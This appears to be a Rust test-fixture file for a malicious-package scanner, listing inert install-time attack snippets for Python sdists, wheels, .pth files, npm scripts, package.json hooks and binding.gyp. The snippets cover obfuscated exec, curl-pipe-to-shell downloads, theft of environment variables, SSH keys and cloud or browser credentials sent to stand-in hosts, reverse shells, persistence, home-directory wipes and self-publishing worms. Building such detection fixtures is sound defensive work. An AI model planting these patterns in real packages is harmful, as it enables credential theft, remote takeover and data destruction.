//! What attacks do while a package is installed or imported. Payloads are inert: reserved addresses, commands that echo.

/// Where a stretch of Python is put.
#[derive(Debug, Clone, Copy)]
pub(super) enum At {
    /// The top of `setup.py` of an sdist.
    Setup,
    /// The `run` of a command that `setup.py` replaces.
    Command,
    /// A module beside `setup.py`, which imports it.
    Sibling,
    /// A backend of the source tree itself.
    Backend,
    /// `__init__.py` of a wheel.
    Wheel,
    /// `__init__.py` of an unpacked sdist, behind `try` in a thread.
    Unpacked,
}

/// Python: class, name, where it stands, code.
pub(super) const PYTHON: &[(&str, &str, At, &str)] = &[
    (
        "package-exec-decoded",
        "base64",
        At::Setup,
        "import base64\nexec(base64.b64decode('cHJpbnQoJ2luZXJ0Jyk='))\n",
    ),
    (
        "package-exec-decoded",
        "base64-alias",
        At::Wheel,
        "from base64 import b64decode as _d\n_e = eval\n_e(_d(b'cHJpbnQoJ2luZXJ0Jyk='))\n",
    ),
    (
        "package-exec-decoded",
        "hex-concatenated",
        At::Command,
        "exec(bytes.fromhex('7072696e74' + '2827696e6572742729').decode())\n",
    ),
    (
        "package-exec-decoded",
        "zlib",
        At::Unpacked,
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwrKMrMK9FQz8xLLSpRBwAi1ATs')))\n",
    ),
    (
        "package-exec-decoded",
        "marshal",
        At::Backend,
        "import marshal\nexec(marshal.loads(b'\\xe3\\x00\\x00\\x00\\x00inert'))\n",
    ),
    (
        "package-exec-decoded",
        "rot13",
        At::Sibling,
        "import codecs\nexec(codecs.decode('cevag(\\'vareg\\')', 'rot13'))\n",
    ),
    (
        "package-exec-decoded",
        "reversed",
        At::Setup,
        "import base64\nexec(base64.b64decode('=kyJ0JXZulGKn5WayB3J'[::-1]))\n",
    ),
    (
        "package-exec-decoded",
        "letters",
        At::Wheel,
        "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))\n",
    ),
    (
        "package-exec-decoded",
        "compile",
        At::Setup,
        "import base64 as b\nc = compile(b.b64decode('cHJpbnQoMSk='), '<string>', 'exec')\nexec(c)\n",
    ),
    (
        "package-exec-decoded",
        "far-right",
        At::Setup,
        "x = 1;                                                                                                                                                                                                        exec('print(1)')\n",
    ),
    (
        "package-exec-decoded",
        "lambda-chain",
        At::Unpacked,
        "_ = lambda __: __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))\nexec((_)(b'inert'))\n",
    ),
    (
        "package-hidden-call",
        "getattr-chain",
        At::Setup,
        "getattr(__import__('bu' + 'iltins'), 'ex' + 'ec')('print(1)')\n",
    ),
    (
        "package-hidden-call",
        "importlib",
        At::Command,
        "import importlib\nm = importlib.import_module('base' + '64')\ngetattr(__builtins__, 'e' + 'val')(m.b64decode('MQ=='))\n",
    ),
    (
        "package-hidden-call",
        "globals",
        At::Wheel,
        "globals()['__buil' + 'tins__']['ev' + 'al'](__import__('base64').b64decode('MQ=='))\n",
    ),
    (
        "package-download-run",
        "curl-shell",
        At::Setup,
        "import os\nos.system('curl -s http://203.0.113.7/i.sh | sh')\n",
    ),
    (
        "package-download-run",
        "urlretrieve",
        At::Command,
        "import urllib.request, os, subprocess\nurllib.request.urlretrieve('http://203.0.113.7/a', '/tmp/.a')\nos.chmod('/tmp/.a', 0o755)\nsubprocess.Popen(['/tmp/.a'])\n",
    ),
    (
        "package-download-run",
        "requests-write",
        At::Wheel,
        "import requests, subprocess\nwith open('/tmp/u.exe', 'wb') as f:\n    f.write(requests.get('https://files.example.invalid/u.exe').content)\nsubprocess.Popen('/tmp/u.exe')\n",
    ),
    (
        "package-download-run",
        "exec-fetched",
        At::Setup,
        "import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.7/p.py').read())\n",
    ),
    (
        "package-download-run",
        "exec-requests",
        At::Unpacked,
        "import requests\nexec(requests.get('https://rentry.co/0/raw').text)\n",
    ),
    (
        "package-download-run",
        "powershell",
        At::Command,
        "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand ZQBjAGgAbwAgAGkAbgBlAHIAdAA=', shell=True)\n",
    ),
    (
        "package-download-run",
        "powershell-fetch",
        At::Setup,
        "import subprocess\nsubprocess.Popen(['powershell', '-c', \"iex (iwr 'http://203.0.113.7/a.ps1')\"])\n",
    ),
    (
        "package-download-run",
        "python-dash-c",
        At::Sibling,
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import urllib.request as u; exec(u.urlopen('http://203.0.113.7/x').read())\"])\n",
    ),
    (
        "package-exfiltration",
        "environment",
        At::Setup,
        "import os, requests\nrequests.post('https://collect.example.invalid/', json=dict(os.environ))\n",
    ),
    (
        "package-exfiltration",
        "environment-urllib",
        At::Wheel,
        "import os, json\nfrom urllib.request import Request, urlopen\nurlopen(Request('http://203.0.113.7/c', data=json.dumps(dict(os.environ)).encode()))\n",
    ),
    (
        "package-exfiltration",
        "host",
        At::Command,
        "import socket, getpass, urllib.request\nurllib.request.urlopen('http://203.0.113.7/?h=' + socket.gethostname() + '&u=' + getpass.getuser())\n",
    ),
    (
        "package-exfiltration",
        "dns",
        At::Setup,
        "import socket, getpass\nsocket.gethostbyname(getpass.getuser() + '.x.oast.fun')\n",
    ),
    (
        "package-exfiltration",
        "ssh-key",
        At::Unpacked,
        "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://collect.example.invalid/', data=k)\n",
    ),
    (
        "package-exfiltration",
        "webhook",
        At::Wheel,
        "import os, requests\nrequests.post('https://discord.com/api/webhooks/0/x', json={'content': os.getenv('GITHUB_TOKEN')})\n",
    ),
    (
        "package-exfiltration",
        "telegram",
        At::Sibling,
        "import requests, platform\nrequests.get('https://api.telegram.org/bot0:x/sendMessage?text=' + platform.node())\n",
    ),
    (
        "package-exfiltration",
        "aws",
        At::Backend,
        "import pathlib, urllib.request\nd = (pathlib.Path.home() / '.aws' / 'credentials').read_bytes()\nurllib.request.urlopen('http://203.0.113.7/', d)\n",
    ),
    (
        "package-exfiltration",
        "atexit",
        At::Wheel,
        "import atexit, os, requests\n@atexit.register\ndef _bye():\n    requests.post('http://203.0.113.7/', data=str(os.environ))\n",
    ),
    (
        "package-exfiltration",
        "passwd",
        At::Setup,
        "import requests\nrequests.post('http://203.0.113.7/', data=open('/etc/passwd').read())\n",
    ),
    (
        "package-exfiltration",
        "clipboard",
        At::Wheel,
        "import pyperclip, requests\nrequests.post('http://203.0.113.7/', data=pyperclip.paste())\n",
    ),
    (
        "package-exfiltration",
        "screenshot",
        At::Setup,
        "from PIL import ImageGrab\nimport requests, io\nb = io.BytesIO()\nImageGrab.grab().save(b, 'PNG')\nrequests.post('https://discord.com/api/webhooks/0/x', files={'f': b.getvalue()})\n",
    ),
    (
        "package-backdoor",
        "reverse-shell",
        At::Setup,
        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\n[os.dup2(s.fileno(), f) for f in (0, 1, 2)]\nsubprocess.call(['/bin/sh', '-i'])\n",
    ),
    (
        "package-backdoor",
        "bash-tcp",
        At::Command,
        "import os\nos.system(\"bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'\")\n",
    ),
    (
        "package-backdoor",
        "bashrc",
        At::Wheel,
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('echo inert\\n')\n",
    ),
    (
        "package-backdoor",
        "cron",
        At::Setup,
        "import os\nos.system('(crontab -l; echo \"* * * * * curl http://203.0.113.7/a | sh\") | crontab -')\n",
    ),
    (
        "package-backdoor",
        "miner",
        At::Unpacked,
        "import subprocess\nsubprocess.Popen(['./xmrig', '-o', 'stratum+tcp://pool.example.invalid:3333'])\n",
    ),
    (
        "package-backdoor",
        "wipe",
        At::Command,
        "import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n",
    ),
    (
        "package-steganography",
        "picture",
        At::Setup,
        "from PIL import Image\nimport base64\np = Image.open('logo.png').getdata()\nexec(base64.b64decode(bytes(x[0] for x in p)))\n",
    ),
    (
        "package-steganography",
        "picture-tail",
        At::Wheel,
        "import zlib\nd = open('logo.png', 'rb').read()[4096:]\nexec(zlib.decompress(d))\n",
    ),
    (
        "package-obfuscation",
        "look-alike",
        At::Wheel,
        "dеf = 1\nimport os as оs\nexec(__import__('base64').b64decode('MQ=='))\n",
    ),
    (
        "package-obfuscation",
        "machine-names",
        At::Setup,
        "IlIlIlIl = 1\nIlIlIlII = 2\nIllIlIII = 3\nIIIlllII = 4\nlIlIlIlI = 5\nlllIIIlI = 6\nIIllIIll = 7\nllIIllII = 8\nIlIllIIl = 9\n",
    ),
    (
        "package-native",
        "shellcode",
        At::Wheel,
        "import ctypes\nb = b'\\x90' * 64\np = ctypes.windll.kernel32.VirtualAlloc(0, len(b), 0x3000, 0x40)\nctypes.windll.kernel32.RtlMoveMemory(p, b, len(b))\nctypes.windll.kernel32.CreateThread(0, 0, p, 0, 0, 0)\n",
    ),
    (
        "package-native",
        "dll",
        At::Setup,
        "import urllib.request, ctypes\nurllib.request.urlretrieve('http://203.0.113.7/x.dll', '/tmp/x.dll')\nctypes.CDLL('/tmp/x.dll')\n",
    ),
];

/// JavaScript that an install script or the package itself runs: class, name, code. Every second one stands in `main`.
pub(super) const SCRIPTS: &[(&str, &str, &str)] = &[
    (
        "package-exec-decoded",
        "atob",
        "eval(atob('Y29uc29sZS5sb2coMSk='));\n",
    ),
    (
        "package-exec-decoded",
        "buffer",
        "const c = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString('utf8');\neval(c);\n",
    ),
    (
        "package-exec-decoded",
        "hex-function",
        "new Function(Buffer.from('636f6e736f6c652e6c6f67283129', 'hex').toString())();\n",
    ),
    (
        "package-exec-decoded",
        "letters",
        "eval(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,49,41));\n",
    ),
    (
        "package-exec-decoded",
        "reversed",
        "eval('KTEoZ29sLmVsb3Nub2M='.split('').reverse().join(''));\n",
    ),
    (
        "package-exec-decoded",
        "vm",
        "require('vm').runInThisContext(require('zlib').inflateSync(Buffer.from('eJxLAAA=', 'base64')).toString());\n",
    ),
    (
        "package-exec-decoded",
        "module-compile",
        "const m = new module.constructor();\nm._compile(Buffer.from('MQ==', 'base64').toString(), 'x');\n",
    ),
    (
        "package-exec-decoded",
        "cipher",
        "const c = require('crypto').createDecipheriv('aes-256-cbc', k, i);\nlet s = c.update(d, 'hex', 'utf8');\neval(s);\n",
    ),
    (
        "package-exec-decoded",
        "constructor",
        "[]['filter']['constructor'](atob('YWxlcnQoMSk='))();\n",
    ),
    (
        "package-exec-decoded",
        "timer",
        "setTimeout(atob('Y29uc29sZS5sb2coMSk='), 10);\n",
    ),
    (
        "package-hidden-call",
        "require-assembled",
        "const cp = require('child' + '_pro' + 'cess');\ncp.exec('echo inert');\n",
    ),
    (
        "package-hidden-call",
        "require-escaped",
        "require('\\x63\\x68\\x69\\x6c\\x64\\x5f\\x70\\x72\\x6f\\x63\\x65\\x73\\x73')['\\x65\\x78\\x65\\x63']('echo inert');\n",
    ),
    (
        "package-hidden-call",
        "member-assembled",
        "const cp = require('child_process');\ncp['ex' + 'ec']('echo inert');\n",
    ),
    (
        "package-download-run",
        "curl",
        "require('child_process').exec('curl -s http://203.0.113.7/a | bash');\n",
    ),
    (
        "package-download-run",
        "fetch-eval",
        "fetch('https://code.example.invalid/x').then((r) => r.text()).then((t) => eval(t));\n",
    ),
    (
        "package-download-run",
        "get-eval",
        "const https = require('https');\nhttps.get('https://code.example.invalid/x', (res) => {\n  let d = '';\n  res.on('data', (c) => { d += c; });\n  res.on('end', () => { new Function(d)(); });\n});\n",
    ),
    (
        "package-download-run",
        "axios-eval",
        "const axios = require('axios');\n(async () => {\n  const { data } = await axios.get('https://code.example.invalid/x');\n  eval(data.code);\n})();\n",
    ),
    (
        "package-download-run",
        "axios-require",
        "require('axios').get('https://code.example.invalid/c').then((r) => { new Function('require', r.data.cookie)(require); });\n",
    ),
    (
        "package-download-run",
        "pipe-spawn",
        "const fs = require('fs'), http = require('http'), { spawn } = require('child_process');\nhttp.get('http://203.0.113.7/a.exe', (r) => {\n  r.pipe(fs.createWriteStream('/tmp/a.exe')).on('finish', () => spawn('/tmp/a.exe'));\n});\n",
    ),
    (
        "package-download-run",
        "write-exec",
        "const fs = require('fs');\nfetch('http://203.0.113.7/b').then((r) => r.arrayBuffer()).then((b) => {\n  fs.writeFileSync('/tmp/b', b);\n  require('child_process').execSync('chmod +x /tmp/b && /tmp/b');\n});\n",
    ),
    (
        "package-download-run",
        "powershell",
        "require('child_process').spawn('powershell', ['-w', 'hidden', '-enc', 'ZQBjAGgAbwA=']);\n",
    ),
    (
        "package-exfiltration",
        "environment",
        "const https = require('https');\nconst r = https.request({ hostname: 'collect.example.invalid', method: 'POST' });\nr.write(JSON.stringify(process.env));\nr.end();\n",
    ),
    (
        "package-exfiltration",
        "environment-axios",
        "require('axios').post('https://collect.example.invalid', { env: process.env });\n",
    ),
    (
        "package-exfiltration",
        "environment-fetch",
        "fetch('https://collect.example.invalid', { method: 'POST', body: JSON.stringify({ ...process.env }) });\n",
    ),
    (
        "package-exfiltration",
        "host",
        "const os = require('os');\nconst d = { h: os.hostname(), u: os.userInfo().username, c: __dirname };\nrequire('http').get('http://203.0.113.7/?d=' + encodeURIComponent(JSON.stringify(d)));\n",
    ),
    (
        "package-exfiltration",
        "host-oast",
        "const os = require('os'), dns = require('dns');\ndns.lookup(os.hostname() + '.x.oast.fun', () => {});\n",
    ),
    (
        "package-exfiltration",
        "npmrc",
        "const fs = require('fs'), os = require('os'), path = require('path');\nconst t = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');\nrequire('https').request({ host: 'collect.example.invalid', method: 'POST' }).end(t);\n",
    ),
    (
        "package-exfiltration",
        "ssh",
        "const fs = require('fs');\nconst k = fs.readFileSync(process.env.HOME + '/.ssh/id_rsa');\nfetch('https://collect.example.invalid', { method: 'POST', body: k });\n",
    ),
    (
        "package-exfiltration",
        "webhook",
        "const { hostname } = require('os');\nfetch('https://discord.com/api/webhooks/0/x', { method: 'POST', body: JSON.stringify({ content: hostname() }) });\n",
    ),
    (
        "package-exfiltration",
        "token",
        "const t = process.env.NPM_TOKEN;\nrequire('https').get('https://collect.example.invalid/?t=' + t);\n",
    ),
    (
        "package-exfiltration",
        "browser",
        "const fs = require('fs');\nconst b = fs.readFileSync(process.env.LOCALAPPDATA + '/Google/Chrome/User Data/Default/Login Data');\nfetch('https://collect.example.invalid', { method: 'POST', body: b });\n",
    ),
    (
        "package-backdoor",
        "reverse-shell",
        "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '203.0.113.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n",
    ),
    (
        "package-backdoor",
        "authorized-keys",
        "require('fs').appendFileSync(require('os').homedir() + '/.ssh/authorized_keys', 'ssh-rsa inert');\n",
    ),
    (
        "package-backdoor",
        "discord",
        "const fs = require('fs');\nfs.writeFileSync(process.env.LOCALAPPDATA + '/Discord/app-1/modules/discord_desktop_core/index.js', 'inert');\n",
    ),
    (
        "package-backdoor",
        "wipe",
        "require('fs').rmSync(require('os').homedir(), { recursive: true, force: true });\n",
    ),
    (
        "package-backdoor",
        "spreads",
        "const fs = require('fs'), { execSync } = require('child_process');\nconst p = JSON.parse(fs.readFileSync('package.json'));\np.scripts.postinstall = 'node index.js';\nfs.writeFileSync('package.json', JSON.stringify(p));\nexecSync('npm publish');\n",
    ),
    (
        "package-obfuscation",
        "machine-names",
        "var _0x1a2b3c=['log'];var _0x2b3c4d=1,_0x3c4d5e=2,_0x4d5e6f=3,_0x5e6f7a=4,_0x6f7a8b=5,_0x7a8b9c=6,_0x8b9c0d=7;console[_0x1a2b3c[0]](_0x2b3c4d);\n",
    ),
    (
        "package-obfuscation",
        "far-right",
        "module.exports = 1;                                                                                                                                                                                                                      require('child_process').exec('echo inert');\n",
    ),
    (
        "package-steganography",
        "picture",
        "const fs = require('fs');\nconst d = fs.readFileSync(__dirname + '/logo.png');\neval(Buffer.from(d.slice(4096).toString(), 'base64').toString());\n",
    ),
];

/// Commands of `package.json`: class, name, hook, command.
pub(super) const HOOKS: &[(&str, &str, &str, &str)] = &[
    (
        "package-download-run",
        "hook-curl",
        "preinstall",
        "curl -fsSL http://203.0.113.7/i.sh | sh",
    ),
    (
        "package-download-run",
        "hook-wget",
        "postinstall",
        "wget -qO- https://i.example.invalid/a | bash",
    ),
    (
        "package-exec-decoded",
        "hook-base64",
        "install",
        "echo ZWNobyBpbmVydA== | base64 -d | sh",
    ),
    (
        "package-exec-decoded",
        "hook-node",
        "postinstall",
        "node -e \"eval(Buffer.from('Y29uc29sZS5sb2coMSk=','base64').toString())\"",
    ),
    (
        "package-exfiltration",
        "hook-dns",
        "preinstall",
        "nslookup $(whoami).x.oast.fun",
    ),
    (
        "package-exfiltration",
        "hook-env",
        "postinstall",
        "env | curl -X POST --data-binary @- http://203.0.113.7/",
    ),
    (
        "package-exfiltration",
        "hook-node-env",
        "preinstall",
        "node -e \"require('https').request({host:'collect.example.invalid',method:'POST'}).end(JSON.stringify(process.env))\"",
    ),
    (
        "package-backdoor",
        "hook-shell",
        "postinstall",
        "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
    ),
    (
        "package-download-run",
        "hook-powershell",
        "preinstall",
        "powershell -nop -w hidden -enc ZQBjAGgAbwA=",
    ),
];

/// `binding.gyp`: name, text.
pub(super) const GYPS: &[(&str, &str)] = &[
    (
        "expansion",
        "{'targets': [{'target_name': 'a', 'sources': ['<!(curl -s http://203.0.113.7/a | sh)']}]}",
    ),
    (
        "expansion-list",
        "{'variables': {'x': \"<!@(node -e \\\"eval(Buffer.from('MQ==','base64').toString())\\\")\"}}",
    ),
    (
        "action",
        "{'targets': [{'target_name': 'a', 'type': 'none', 'actions': [{'action_name': 'b', 'inputs': [], 'outputs': [], 'action': ['sh', '-c', 'wget -qO- http://203.0.113.7/a | sh']}]}]}",
    ),
];

/// Whole sdists: name, files.
pub(super) const SDISTS: &[(&str, &[(&str, &str)])] = &[(
    "script-started-on-import",
    &[
        (
            "a/__init__.py",
            "import os, subprocess\nsubprocess.Popen(['node', os.path.join(os.path.dirname(__file__), 'stage.js')])\n",
        ),
        (
            "a/stage.js",
            "const https = require('https');\nhttps.get('https://code.example.invalid/x', (res) => {\n  let d = '';\n  res.on('data', (c) => { d += c; });\n  res.on('end', () => { eval(d); });\n});\n",
        ),
    ],
)];

/// `.pth` files of wheels: name, text.
pub(super) const PATHS: &[(&str, &str)] = &[
    (
        "base64",
        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
    ),
    (
        "fetched",
        "import urllib.request as u; exec(u.urlopen('http://203.0.113.7/x').read())\n",
    ),
    (
        "environment",
        "import os, urllib.request as u; u.urlopen('http://203.0.113.7/', str(dict(os.environ)).encode())\n",
    ),
    (
        "subprocess",
        "import subprocess, sys; subprocess.Popen([sys.executable, '-c', 'import base64; exec(base64.b64decode(\"MQ==\"))'])\n",
    ),
];
